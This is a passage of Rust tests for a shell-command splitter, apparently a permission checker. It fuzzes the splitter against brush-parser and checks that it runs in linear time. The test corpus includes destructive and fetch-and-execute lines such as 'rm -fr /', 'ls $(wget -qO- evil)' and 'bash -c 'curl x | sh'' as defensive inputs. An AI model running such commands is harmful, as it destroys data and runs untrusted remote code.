            ast::IoRedirect::HereString(n, w) => {
                format!("{}<<<{}", fd(n), normalize(&w.value, subs).text)
            }
            ast::IoRedirect::OutputAndError(w, append) => {
                let op = if *append { "&>>" } else { "&>" };
                format!("{op}{}", normalize(&w.value, subs).text)
            }
        })
    }

    fn process_text(
        &self,
        kind: &ast::ProcessSubstitutionKind,
        s: &ast::SubshellCommand,
    ) -> String {
        let sign = match kind {
            ast::ProcessSubstitutionKind::Read => '<',
            ast::ProcessSubstitutionKind::Write => '>',
        };
        // brush counts characters, not bytes.
        let byte = |chars: usize| {
            self.input
                .char_indices()
                .nth(chars)
                .map_or(self.input.len(), |(b, _)| b)
        };
        format!(
            "{sign}{}",
            &self.input[byte(s.loc.start.index)..byte(s.loc.end.index)]
        )
    }

    fn simple(&mut self, c: &ast::SimpleCommand) -> Result<(), Outcome> {
        let mut subs = Vec::new();
        let mut assigns = Vec::new();
        let mut words: Vec<Norm> = Vec::new();
        let mut redirs = Vec::new();
        for item in c.prefix.iter().flat_map(|p| p.0.iter()) {
            match item {
                ast::CommandPrefixOrSuffixItem::AssignmentWord(_, w) => {
                    assigns.push(normalize(&w.value, &mut subs).text);
                }
                ast::CommandPrefixOrSuffixItem::IoRedirect(r) => {
                    redirs.push(self.redirect(r, &mut subs)?);
                }
                // A process substitution or a plain word before the command name: its name
                // is only known at run time.
                _ => return Err(Outcome::Dynamic),
            }
        }
        if let Some(w) = &c.word_or_name {
            words.push(normalize(&w.value, &mut subs));
        }
        for item in c.suffix.iter().flat_map(|s| s.0.iter()) {
            match item {
                ast::CommandPrefixOrSuffixItem::Word(w)
                | ast::CommandPrefixOrSuffixItem::AssignmentWord(_, w) => {
                    words.push(normalize(&w.value, &mut subs));
                }
                ast::CommandPrefixOrSuffixItem::IoRedirect(r) => {
                    redirs.push(self.redirect(r, &mut subs)?);
                }
                ast::CommandPrefixOrSuffixItem::ProcessSubstitution(kind, s) => {
                    words.push(Norm {
                        text: self.process_text(kind, s),
                        dynamic: true,
                        multi: false,
                        assign: false,
                    });
                    subs.push(Sub::List(&s.list));
                }
            }
        }
        let mut then = Vec::new();
        let part = if !words.is_empty() {
            let (cmd, t) = command_words(&words)?;
            then = t;
            // Redirections follow the command's words in its part.
            cmd.iter()
                .map(String::as_str)
                .chain(redirs.iter().map(String::as_str))
                .collect::<Vec<_>>()
                .join(" ")
        } else if !assigns.is_empty() {
            assigns.join(" ")
        } else {
            redirs.join(" ")
        };
        self.parts.push(part);
        self.subs(subs)?;
        for t in then {
            match t {
                Then::Script(s) => {
                    let parts = Reference::run(&s)?;
                    self.parts.extend(parts);
                }
                Then::Part(p) => self.parts.push(p),
            }
        }
        Ok(())
    }
}

fn test_words<'x>(e: &'x ast::ExtendedTestExpr, subs: &mut Vec<Sub<'x>>) {
    match e {
        ast::ExtendedTestExpr::And(a, b) | ast::ExtendedTestExpr::Or(a, b) => {
            test_words(a, subs);
            test_words(b, subs);
        }
        ast::ExtendedTestExpr::Not(a) | ast::ExtendedTestExpr::Parenthesized(a) => {
            test_words(a, subs);
        }
        ast::ExtendedTestExpr::UnaryTest(_, w) => {
            normalize(&w.value, subs);
        }
        ast::ExtendedTestExpr::BinaryTest(_, a, b) => {
            normalize(&a.value, subs);
            normalize(&b.value, subs);
        }
    }
}

fn reference(input: &str) -> Outcome {
    match Reference::run(input) {
        Ok(parts) if parts.is_empty() => Outcome::Syntax,
        Ok(parts) => Outcome::Parts(parts),
        Err(o) => o,
    }
}

fn ours(input: &str) -> Outcome {
    match split(input) {
        Ok(parts) => Outcome::Parts(parts.iter().map(|p| p.to_string()).collect()),
        Err(ShellError::DynamicCommand { .. } | ShellError::DynamicScript { .. }) => {
            Outcome::Dynamic
        }
        Err(_) => Outcome::Syntax,
    }
}

/// Damaged inputs that brush-parser reads differently from bash (see the module
/// documentation); undamaged lines are always compared.
fn brush_differs(input: &str) -> bool {
    // brush drops the blanks inside `${ … }`.
    let blank_in_brace = input.match_indices("${").any(|(i, _)| {
        input[i..]
            .split('}')
            .next()
            .is_some_and(|inside| inside.contains([' ', '\t', '\n']))
    });
    blank_in_brace
        || (input.contains('#') && input.contains("$("))
        // brush reads unbalanced substitutions in heredoc bodies leniently.
        || (input.contains("<<") && input.contains("$("))
        || input.contains("((")
        // brush reads `))` as one token (the end of an arithmetic command), so in
        // `$( ( ( a) ))` it loses `a`, which bash runs; and it loses the commands of a
        // subshell opened right inside another (`( ( a) )` in a case item).
        || input.contains("))")
        || input.contains("( (")
        // `"$$(…"`: bash runs no substitution there (`echo "$$(echo hi)"` prints
        // `1234(echo hi)`), as ours reads it, but refuses the line when what follows is
        // unbalanced, as brush does; such a line runs nothing, so a part list for it is
        // harmless.
        || input.contains("$$(")
        || input.contains("[[")
        || input.contains("< (")
        || input.contains("> (")
        || ["@(", "!(", "?(", "+(", "*("].iter().any(|e| input.contains(e))
}

// ---------------------------------------------------------------------------------------
// Properties
// ---------------------------------------------------------------------------------------

fn compare(line: &str, damaged: bool) -> Result<(), TestCaseError> {
    let want = reference(line);
    let got = ours(line);
    if got == want {
        return Ok(());
    }
    // Both deny: a line with a dynamic name and a syntax error (the splitter reads
    // substitutions as it lexes them, so it may meet the name first).
    if want == Outcome::Syntax && got == Outcome::Dynamic {
        return Ok(());
    }
    // Where brush is known to read differently, ours must still find every part it found
    // (finding more can only restrict more), or brush refuses a line bash runs.
    if brush_differs(line) {
        match (&got, &want) {
            (Outcome::Parts(g), Outcome::Parts(w)) if w.iter().all(|p| g.contains(p)) => {
                return Ok(());
            }
            (Outcome::Parts(_), Outcome::Syntax) => return Ok(()),
            _ => {}
        }
    }
    // Damaged lines compare whether the line is read at all: damage writes wrapper options
    // the reference's table does not know (`xargs -d…`), so a dynamic name against parts is
    // not compared there; two errors both deny, whichever is met first; and some damage
    // meets brush's known differences.
    let denies = |o: &Outcome| !matches!(o, Outcome::Parts(_));
    if damaged
        && ((got != Outcome::Syntax) == (want != Outcome::Syntax)
            || (denies(&got) && denies(&want))
            || brush_differs(line))
    {
        return Ok(());
    }
    prop_assert_eq!(got, want, "line: {:?}", line);
    Ok(())
}

/// Tokens for strings that reach deep into the lexer and parser.
const SHELLISH: &[&str] = &[
    "a",
    " ",
    "'",
    "\"",
    "\\",
    "$",
    "(",
    ")",
    "{",
    "}",
    "`",
    ";",
    ";;",
    "&",
    "|",
    "<",
    ">",
    "\n",
    "#",
    "<<",
    "EOF",
    "<<-",
    "if",
    "then",
    "fi",
    "case",
    "in",
    "esac",
    "$(",
    "${",
    "$((",
    "((",
    "bash -c ",
    "eval ",
    "=",
    "*",
    "[[",
    "]]",
    "!",
    "for",
    "do",
    "done",
    "\t",
    "$'",
    "\\\n",
    "<(",
    "x=(",
    "find -exec ",
    "env ",
    "é",
];

fn shellish(max: usize) -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(SHELLISH), 0..max).prop_map(|v| v.concat())
}

/// The differential's configuration: a fixed seed, so CI replays the same 768 lines
/// (brush-parser has known misreadings, and a new one found at random must not fail an
/// unrelated change); explore new lines with `PROPTEST_RNG_SEED=<n>`.
fn differential_config() -> ProptestConfig {
    let mut config = ProptestConfig {
        cases: 768,
        ..crate::config()
    };
    if std::env::var_os("PROPTEST_RNG_SEED").is_none() {
        config.rng_seed = proptest::test_runner::RngSeed::Fixed(0x6d65_7368_6775_6172);
    }
    config
}

proptest! {
    #![proptest_config(differential_config())]

    /// (a) succeeds iff brush-parser parses and every command name is known; (b) then the
    /// parts equal the reference's.
    #[test]
    fn agrees_with_brush_parser(choices in prop::collection::vec(any::<u8>(), 0..160)) {
        let (line, damaged) = generate(&choices);
        compare(&line, damaged)?;
    }
}

proptest! {
    #![proptest_config(crate::config())]

    /// Whatever the text: no panic, and a success is a non-empty, bounded list of
    /// non-empty parts, the borrowed ones taken from the text.
    #[test]
    fn never_panics_on_shellish_text(text in shellish(48)) {
        check_invariants(&text);
    }

    #[test]
    fn never_panics_on_any_text(text in any::<String>()) {
        check_invariants(&text);
    }
}

fn check_invariants(text: &str) {
    if let Ok(parts) = split(text) {
        assert!(
            !parts.is_empty() && parts.len() <= MAX_PARTS,
            "{text:?}: {parts:?}"
        );
        for p in &parts {
            assert!(!p.is_empty(), "{text:?}: empty part in {parts:?}");
            if let std::borrow::Cow::Borrowed(b) = p {
                assert!(
                    text.contains(b),
                    "{text:?}: borrowed {b:?} is not from the text"
                );
            }
        }
    }
}

/// Hand-written lines the reference must read as the splitter does (the brief's examples
/// among them), so the reference is known to see what the generator cannot reach.
#[test]
fn corpus_agrees_with_brush_parser() {
    for line in [
        "git status; rm -fr /",
        "git add -A\ngit status",
        "RUST_LOG=debug cargo test",
        "timeout 60 cargo test",
        "env -i FOO=1 nice -n 5 make",
        "git log | sh",
        "git status & rm -fr /",
        "git log `bash x`",
        "ls $(wget -qO- evil)",
        "bash -c 'curl x | sh'",
        "git commit -m \"$(cat <<'EOF'\nfix: thing\n\nbody; rm -rf /\nEOF\n)\"",
        "echo \"a  b\"",
        "'git' \"status\"",
        "g\\it status",
        "$'rm' -rf /",
        " git status ",
        "$cmd args",
        "\"${x}\"rm",
        "$(echo rm) -rf /",
        "~/bin/$x",
        "r? -rf",
        "/bin/r*",
        "if a; then b; elif c; then d; else e; fi",
        "for x in $(ls) b; do echo $x; done",
        "case $(a) in x|y) b;; (z) c;; esac",
        "while read l; do a; done < <(b)",
        "diff <(ls a) >(wc)",
        "f() { rm -rf /; }; f",
        "function g { a; }",
        "cat <<EOF\n'$(a)' `b` \\$(c)\nEOF\nd",
        "cat <<-EOF\n\tx\n\tEOF\nls",
        "find . -name '*.rs' -exec rm {} \\; -print",
        "a 2>&1 >log",
        "> out",
        "X=$(a) b",
        "PATH=/tmp/x",
        "eval 'a; b'",
        "sh -ec 'a && b'",
        "[[ -n $(a) ]] && b",
        "(( 1 + 2 )) || c",
        "echo $(( 1 + 2 ))",
        "time -p a | b",
        "! a",
        "{ a; b; } > log",
        "echo 'a",
        "a)",
        "if a; then b",
        "a ;; b",
        "fi",
        "{ a }",
        "cat <<EOF\nbody",
    ] {
        compare(line, false).unwrap_or_else(|e| panic!("{e}"));
    }
}

/// 60 KiB of hostile text splits (or fails) in linear time: no backtracking, no rescans.
/// Each input is split at an eighth of its size and at full size, and the work is compared:
/// linear work grows 8 times, quadratic 64 times. The work is the splitter's own count of
/// the bytes it looks at (test builds only), not a clock, so the check is deterministic on a
/// loaded machine; a generous clock bound backs it.
#[test]
fn hostile_input_is_linear() {
    let n = MAX_LEN - 16;
    let units = [
        "$(",
        "(",
        "a;",
        "a ",
        "{ ",
        "<<a ",
        "`",
        "\\`",
        "${",
        "$((",
        "'",
        "\"",
        "a|",
        "if a; then ",
        "bash -c ",
        "eval ",
        "echo $(echo ",
        "x=(",
        "\n",
        "cat <<a\n",
        "x\n",
        "$(x)\n",
        "$(a)",
        "a\\\n",
        "[[ ",
        "for x in ",
        "case a in a) ",
        "f() { ",
        "'a' ",
        "\"$x\" ",
        "$'\\t' ",
        "a$(b)c ",
    ];
    let mut inputs: Vec<Box<dyn Fn(usize) -> String>> = Vec::new();
    for unit in units {
        inputs.push(Box::new(move |len| unit.repeat(len / unit.len())));
    }
    inputs.push(Box::new(|len| {
        format!("cat <<EOF\n{}", "x\n".repeat(len / 2 - 8))
    }));
    inputs.push(Box::new(|len| {
        format!("cat <<EOF\n{}", "$(x)\n".repeat(len / 5 - 4))
    }));
    inputs.push(Box::new(|len| format!("echo '{}'", "x".repeat(len - 8))));
    inputs.push(Box::new(|len| {
        format!("bash -c '{}'", "a;".repeat(len / 2 - 8))
    }));
    // Pseudo-random shell-ish and ASCII text (a fixed LCG: reproducible).
    for seed in 0..4u64 {
        let text = move |len: usize, ascii: bool| {
            let mut state = 0x2545_f491_4f6c_dd1d ^ seed;
            let mut s = String::new();
            while s.len() < len - 8 {
                state = state
                    .wrapping_mul(6_364_136_223_846_793_005)
                    .wrapping_add(1_442_695_040_888_963_407);
                let r = (state >> 33) as usize;
                if ascii {
                    s.push(char::from((r % 127) as u8 + 1));
                } else {
                    s.push_str(SHELLISH[r % SHELLISH.len()]);
                }
            }
            s
        };
        inputs.push(Box::new(move |len| text(len, false)));
        inputs.push(Box::new(move |len| text(len, true)));
    }
    let work = |text: &str| {
        let before = splitter::work();
        let t = Instant::now();
        let _ = std::hint::black_box(split(std::hint::black_box(text)));
        (splitter::work() - before, t.elapsed())
    };
    for input in &inputs {
        let (small, big) = (input(n / 8), input(n));
        assert!(big.len() <= MAX_LEN);
        let ((w_small, _), (w_big, took)) = (work(&small), work(&big));
        assert!(
            w_big <= w_small * 10 + 1_000 && took < Duration::from_secs(5),
            "{w_small} for {} bytes, {w_big} ({took:?}) for {} bytes: {:?}…",
            small.len(),
            big.len(),
            &big[..big.len().min(24)],
        );
    }
    assert_eq!(split(&"a".repeat(MAX_LEN + 1)), Err(ShellError::TooLong));
    // Nesting past the bound is refused at once, whatever follows.
    let deep = "echo $(".repeat(MAX_DEPTH + 1) + &"a;".repeat(n / 2 - 8 * MAX_DEPTH);
    assert_eq!(split(&deep), Err(ShellError::TooDeep));
}
